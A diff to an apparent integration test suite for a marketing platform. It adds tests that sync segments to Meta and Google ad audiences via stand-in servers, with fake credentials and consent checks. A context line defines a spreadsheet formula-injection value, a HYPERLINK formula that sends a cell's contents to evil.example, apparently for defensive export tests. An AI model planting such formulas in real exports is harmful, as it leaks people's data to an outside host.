@@ -26,13 +26,18 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
+from google_standin import GoogleStandIn
+from graph_standin import GraphStandIn
 from stack_client import all_members, evaluate, http, lake_contacts, live, local_stack, ok, wait_for
+from tern.audiences.model import Sync
+from tern.audiences.repository import SyncRepository
 from tern.aws.dynamodb import Table
+from tern.exports.matching import Member, google_identifiers, meta_row
 from tern.exports.webhook import verify
 from tern.parquet import CONTACTS_SCHEMA
 from tern.segments.repository import SegmentRepository
 from tern_local.generator import generate
-from tern_local.stack import REGION, LocalStack
+from tern_local.stack import REGION, Killed, LocalStack
 
 WARSAW = {
     "name": "Warsaw",
@@ -40,11 +45,40 @@ WARSAW = {
     "refresh": {"every": 365, "unit": "days"},
 }
 SECRET = "a-secret-of-at-least-16"
+META_TOKEN, META_ACCOUNT = "EAAB-system-user-token-0001", "1234567890"
+GOOGLE_CLIENT, GOOGLE_SECRET, GOOGLE_REFRESH, GOOGLE_CUSTOMER = (
+    "tern.apps.googleusercontent.com",
+    "GOCSPX-secret",
+    "1//refresh-0001",
+    "1234567890",
+)
 HOSTILE = '=HYPERLINK("https://evil.example/?d="&A2,"Click me")'
 
 
 @pytest.fixture(scope="module")
-def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalStack]:
+def graph() -> Iterator[GraphStandIn]:
+    standin = GraphStandIn(tokens={META_TOKEN}, accounts={META_ACCOUNT})
+    yield standin
+    standin.stop()
+
+
+@pytest.fixture(scope="module")
+def google() -> Iterator[GoogleStandIn]:
+    standin = GoogleStandIn({GOOGLE_CLIENT: GOOGLE_SECRET}, {GOOGLE_REFRESH}, {GOOGLE_CUSTOMER})
+    yield standin
+    standin.stop()
+
+
+@pytest.fixture(scope="module")
+def stack(tmp_path_factory: pytest.TempPathFactory, graph: GraphStandIn, google: GoogleStandIn) -> Iterator[LocalStack]:
+    with pytest.MonkeyPatch.context() as env:  # the platforms' stand-ins, read by the functions at their cold start
+        env.setenv("TERN_META_GRAPH_URL", graph.url)
+        env.setenv("TERN_GOOGLE_DATA_MANAGER_URL", google.url)
+        env.setenv("TERN_GOOGLE_TOKEN_URL", google.token_url)
+        yield from _stack(tmp_path_factory)
+
+
+def _stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalStack]:
     lake: Path = tmp_path_factory.mktemp("exports-lake")
     for org, seed in (("acme", 11), ("globex", 12)):
         generate(lake, contacts=600, events_per_contact=10, days=60, org=org, seed=seed)
@@ -423,3 +457,175 @@ def test_tenants_never_see_each_others_exports_actions_or_destinations(stack: Lo
         assert "/exports/org_id=globex/" in url and "org_id=acme" not in url
     finally:
         receiver.close()
+
+
+# ------------------------------------------------------------------------------------ ad audiences (issue 30)
+
+AD_CONSENT = "profiling"  # the generator gives it to about 3 in 10 contacts
+
+
+def segment(name: str, *criteria: dict[str, Any]) -> dict[str, Any]:
+    return {"name": name, "where": {"all": list(criteria)}, "refresh": {"every": 365, "unit": "days"}}
+
+
+def consented(stack: LocalStack, segment_id: str, consent: str) -> list[str]:
+    """The segment's members with the consent, as a segment over the same lake (with the overlay) counts them."""
+    both = live(stack, segment(f"{segment_id} with {consent}", {"kind": "in_segment", "segment_id": segment_id},
+                                {"kind": "consents", "op": "has_any", "values": [consent]}))  # fmt: skip
+    return sorted(all_members(stack, both["id"]))
+
+
+def synced(stack: LocalStack, segment_id: str, audience_id: str, sync_id: str | None = None) -> dict[str, Any]:
+    """The audience once its last sync (`sync_id`, or any) has ended and it holds no other."""
+
+    def ended() -> Any:
+        audience = ok(stack, "GET", f"/segments/{segment_id}/audiences/{audience_id}")
+        last = audience["last_sync"]
+        if last and (sync_id is None or last["sync_id"] == sync_id) and audience["running"] is None:
+            return audience
+        return None
+
+    return dict(wait_for(ended, timeout=90, what=f"audience {audience_id}'s sync"))
+
+
+def meta_rows_of(graph: GraphStandIn, audience: str, op: str) -> list[tuple[str, ...]]:
+    """Every row the stand-in took for the audience by `op` (add, remove, replace), repeats kept."""
+    rows = []
+    for method, path, fields in graph.accepted():
+        if method != "POST" or not path.endswith((f"/{audience}/users", f"/{audience}/usersreplace")):
+            continue
+        kind = "replace" if path.endswith("usersreplace") else "remove" if fields.get("method") == "DELETE" else "add"
+        if kind == op:
+            rows += [tuple(r) for r in json.loads(fields["payload"])["data"]]
+    return rows
+
+
+def test_a_segment_fills_a_meta_audience_in_step_with_its_members_and_their_consent(
+    stack: LocalStack, graph: GraphStandIn, warsaw: dict[str, Any], contacts: dict[str, dict[str, Any]], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def row(contact_id: str) -> tuple[str, ...]:
+        c = contacts[contact_id]
+        found = meta_row(Member(c["email"], c["phone"], c["first_name"], c["last_name"], c["city"], c["postal_code"], c["country"]))
+        assert found is not None
+        return tuple(found)
+
+    # connecting checks the token with Meta: a wrong one is a 400 naming the field, and nothing is kept
+    status, refused = http(stack, "POST", "/ad-accounts", {"platform": "meta", "name": "Ads", "ad_account_id": f"act_{META_ACCOUNT}",
+                                                          "access_token": "EAAB-not-a-token"})  # fmt: skip
+    assert status == 400 and "access_token" in json.dumps(refused) and "access token" in refused["message"], refused
+    assert ok(stack, "GET", "/ad-accounts")["accounts"] == []
+    account = ok(stack, "POST", "/ad-accounts", {"platform": "meta", "name": "Ads", "ad_account_id": f"act_{META_ACCOUNT}",
+                                                 "access_token": META_TOKEN})  # fmt: skip
+    assert account["platform_name"] == "Tern test account" and META_TOKEN not in json.dumps(account)
+
+    fans = live(stack, segment("Meta fans", {"kind": "tags", "op": "has_any", "values": ["meta-fans"]}))
+    audience = ok(stack, "POST", f"/segments/{fans['id']}/audiences", {"account_id": account["id"], "consent": AD_CONSENT})
+    assert audience["platform_audience_id"] in graph.audiences and graph.audiences[audience["platform_audience_id"]]["name"] == "Meta fans"
+    platform_id = audience["platform_audience_id"]
+
+    # members join: the Warsaw contacts tagged; Meta throttles once (code 80003, its rate limit) and the batch is sent again
+    finished_action(stack, warsaw["id"], {"kind": "tag", "value": "meta-fans", "action": "add"})
+    graph.fail_next = [80003]
+    evaluation = evaluate(stack, fans["id"])
+    first = synced(stack, fans["id"], audience["id"], f"refresh-{evaluation['evaluation_id']}")["last_sync"]
+    joined = consented(stack, fans["id"], AD_CONSENT)
+    assert 0 < len(joined) < len(all_members(stack, fans["id"])), "some members lack the consent"
+    assert first["status"] == "done" and (first["added"], first["removed"], first["members"]) == (len(joined), 0, len(joined)), first
+    assert first["without_consent"] == len(all_members(stack, fans["id"])) - len(joined)
+    assert graph.members[platform_id] == {row(c) for c in joined}
+    assert sorted(meta_rows_of(graph, platform_id, "add")) == sorted(row(c) for c in joined)  # each once, despite the retry
+
+    # members leave (untagged) and withdraw the consent; the function's instance dies right after recording its first
+    # batch, and Lambda runs the event again: it carries on from there, and Meta receives each leaver's row once
+    in_warsaw = {"kind": "in_segment", "segment_id": warsaw["id"]}
+    sms = live(stack, segment("Warsaw by text", in_warsaw, {"kind": "consents", "op": "has_any", "values": ["sms_marketing"]}))
+    email = live(stack, segment("Warsaw by e-mail", in_warsaw, {"kind": "consents", "op": "has_any", "values": ["email_marketing"]}))
+    finished_action(stack, sms["id"], {"kind": "tag", "value": "meta-fans", "action": "remove"})
+    finished_action(stack, email["id"], {"kind": "consent", "value": AD_CONSENT, "action": "remove"})
+    save, killed = SyncRepository.save, []
+
+    def dying(self: SyncRepository, record: Sync) -> Sync:
+        saved = save(self, record)
+        if record.sent_batches == 1 and record.kind == "changes" and not killed:
+            killed.append(record.id)
+            raise Killed("the instance was stopped")
+        return saved
+
+    monkeypatch.setattr(SyncRepository, "save", dying)
+    evaluation = evaluate(stack, fans["id"])
+    sync_id = f"refresh-{evaluation['evaluation_id']}"
+    second = synced(stack, fans["id"], audience["id"], sync_id)["last_sync"]
+    assert killed == [sync_id]
+    kept = consented(stack, fans["id"], AD_CONSENT)
+    gone = sorted(set(joined) - set(kept))
+    assert gone and second["status"] == "done" and (second["added"], second["removed"]) == (0, len(gone)), second
+    assert graph.members[platform_id] == {row(c) for c in kept}
+    assert sorted(meta_rows_of(graph, platform_id, "remove")) == sorted(row(c) for c in gone)
+
+    # a full replace on demand: the audience made exactly the members, in one replace session
+    graph.members[platform_id] |= {tuple("0" * 64 for _ in range(7))}  # someone added on Meta's side
+    status, asked = http(stack, "POST", f"/segments/{fans['id']}/audiences/{audience['id']}/syncs", {"replace": True})
+    assert status == 202 and asked["kind"] == "replace", asked
+    third = synced(stack, fans["id"], audience["id"], asked["id"])["last_sync"]
+    assert third["status"] == "done" and third["added"] == len(kept), third
+    assert graph.members[platform_id] == {row(c) for c in kept}
+
+    # no member without the consent ever reached Meta; and the account cannot go while the audience uses it
+    never = {row(c) for c in all_members(stack, warsaw["id"]) if AD_CONSENT not in (contacts[c]["consents"] or [])}
+    assert never and not never & set(meta_rows_of(graph, platform_id, "add") + meta_rows_of(graph, platform_id, "replace"))
+    assert http(stack, "DELETE", f"/ad-accounts/{account['id']}")[0] == 409
+    ok(stack, "DELETE", f"/segments/{fans['id']}/audiences/{audience['id']}")
+    assert ok(stack, "DELETE", f"/ad-accounts/{account['id']}")["id"] == account["id"]
+
+
+def test_a_segment_fills_a_google_customer_match_list_through_the_data_manager_api(
+    stack: LocalStack, google: GoogleStandIn, warsaw: dict[str, Any], contacts: dict[str, dict[str, Any]]
+) -> None:
+    def member(contact_id: str) -> frozenset[tuple[str, ...]]:
+        c = contacts[contact_id]
+        return google.member(google_identifiers(Member(c["email"], c["phone"], c["first_name"], c["last_name"], c["city"],
+                                                       c["postal_code"], c["country"])))  # fmt: skip
+
+    def taken(list_id: str, kind: str) -> list[frozenset[tuple[str, ...]]]:
+        return [m for r in google.requests.values() if r["kind"] == kind and r["destinations"][0]["productDestinationId"] == list_id
+                for m in r["members"]]  # fmt: skip
+
+    connect = {"platform": "google", "name": "Google Ads", "customer_id": "123-456-7890", "client_id": GOOGLE_CLIENT,
+               "client_secret": GOOGLE_SECRET, "refresh_token": "1//revoked-refresh-token"}  # fmt: skip
+    status, refused = http(stack, "POST", "/ad-accounts", connect)
+    assert status == 400 and "refresh_token" in json.dumps(refused) and "expired or was revoked" in refused["message"], refused
+    account = ok(stack, "POST", "/ad-accounts", {**connect, "refresh_token": GOOGLE_REFRESH})
+    assert (account["account"], account["platform"]) == (GOOGLE_CUSTOMER, "google") and GOOGLE_SECRET not in json.dumps(account)
+
+    fans = live(stack, segment("Google fans", {"kind": "tags", "op": "has_any", "values": ["google-fans"]}))
+    audience = ok(stack, "POST", f"/segments/{fans['id']}/audiences", {"account_id": account["id"], "consent": AD_CONSENT})
+    list_id = audience["platform_audience_id"]
+    assert google.lists[list_id]["name"] == "Google fans"
+
+    # joiners, through a 429 (the per-minute quota) and a 503: each member ingested once, with the consent
+    finished_action(stack, warsaw["id"], {"kind": "tag", "value": "google-fans", "action": "add"})
+    google.fail_next = [429, 503]
+    evaluation = evaluate(stack, fans["id"])
+    first = synced(stack, fans["id"], audience["id"], f"refresh-{evaluation['evaluation_id']}")["last_sync"]
+    joined = consented(stack, fans["id"], AD_CONSENT)
+    assert first["status"] == "done" and (first["added"], first["removed"]) == (len(joined), 0) and first["matched"], first
+    assert google.members(list_id) == {member(c) for c in joined}
+    assert sorted(map(sorted, taken(list_id, "ingest"))) == sorted(sorted(member(c)) for c in joined)
+
+    # leavers and a withdrawn consent are removed
+    untag = live(stack, segment("Warsaw, some", {"kind": "in_segment", "segment_id": warsaw["id"]},
+                                {"kind": "consents", "op": "has_any", "values": ["sms_marketing"]}))  # fmt: skip
+    finished_action(stack, untag["id"], {"kind": "tag", "value": "google-fans", "action": "remove"})
+    evaluation = evaluate(stack, fans["id"])
+    second = synced(stack, fans["id"], audience["id"], f"refresh-{evaluation['evaluation_id']}")["last_sync"]
+    kept = consented(stack, fans["id"], AD_CONSENT)
+    assert second["status"] == "done" and (second["added"], second["removed"]) == (0, len(joined) - len(kept)) and kept != joined
+    assert google.members(list_id) == {member(c) for c in kept}
+
+    # a replace: the list emptied (removeAll), then filled with exactly the members
+    asked = ok(stack, "POST", f"/segments/{fans['id']}/audiences/{audience['id']}/syncs", {"replace": True})
+    assert synced(stack, fans["id"], audience["id"], asked["id"])["last_sync"]["status"] == "done"
+    assert google.members(list_id) == {member(c) for c in kept}
+    assert any(r["kind"] == "removeAll" for r in google.requests.values())
+    never = {member(c) for c in all_members(stack, warsaw["id"]) if AD_CONSENT not in (contacts[c]["consents"] or [])}
+    assert never and not never & set(taken(list_id, "ingest"))
